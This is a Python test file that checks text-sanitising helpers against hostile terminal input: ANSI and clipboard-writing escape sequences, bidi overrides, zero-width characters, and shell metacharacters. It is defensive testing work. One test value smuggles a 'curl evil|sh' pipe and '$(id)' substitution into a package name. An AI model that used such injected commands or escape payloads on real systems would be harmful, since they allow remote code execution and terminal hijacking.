"""Nothing that acts or hides on a terminal survives ``visible``."""

import json
import shlex
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from asf_core.domain.text import json_escaped, one_line, shell_word, visible

PAYLOADS = {
    "colour": ("\x1b[31mred", "␛[31mred"),
    "clipboard": ("\x1b]52;c;aGk=\x07", "␛]52;c;aGk=␇"),
    "c1 csi": ("\x9b31m", "⟨U+009B⟩31m"),
    "bidi override": ("a\u202eb", "a⟨U+202E⟩b"),
    "zero width": ("a\u200bb", "a⟨U+200B⟩b"),
    "tag letter": ("\U000e0041", "⟨tag A⟩"),
    "lone surrogate": ("\ud800", "⟨U+D800⟩"),
    "markup": ("[/b] [link=x]", "[/b] [link=x]"),
}


@pytest.mark.parametrize(("raw", "shown"), PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_is_shown(raw: str, shown: str) -> None:
    assert visible(raw) == shown


@given(st.text())
def test_no_control_or_format_character_survives(text: str) -> None:
    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp", "Cs"} for c in visible(text))


@given(st.text(), st.integers(min_value=1, max_value=50))
def test_one_line_is_one_line_within_its_limit(text: str, limit: int) -> None:
    line = one_line(text, limit)
    assert "\n" not in line
    assert len(line) <= limit


def test_kept_characters_stay() -> None:
    assert visible("a\n\tb\x1b", keep="\n\t") == "a\n\tb␛"


@given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_escaped_json_is_equal_and_hides_nothing(value: object) -> None:
    printed = json_escaped(json.dumps(value, indent=1, ensure_ascii=False))
    assert json.loads(printed) == value
    assert visible(printed, keep="\n") == printed


def test_a_lone_surrogate_can_be_printed() -> None:
    assert json_escaped(json.dumps("\ud800", ensure_ascii=False)) == '"\\ud800"'


def test_a_name_as_a_word_of_a_command_line_ends_no_command() -> None:
    assert shell_word("reg/carver@1.0.0") == "reg/carver@1.0.0"
    nasty = "reg/x; curl evil|sh\x1b $(id) `id` 'q'"
    (word,) = shlex.split(shell_word(nasty))
    assert word == "reg/x; curl evil|sh␛ $(id) `id` 'q'"
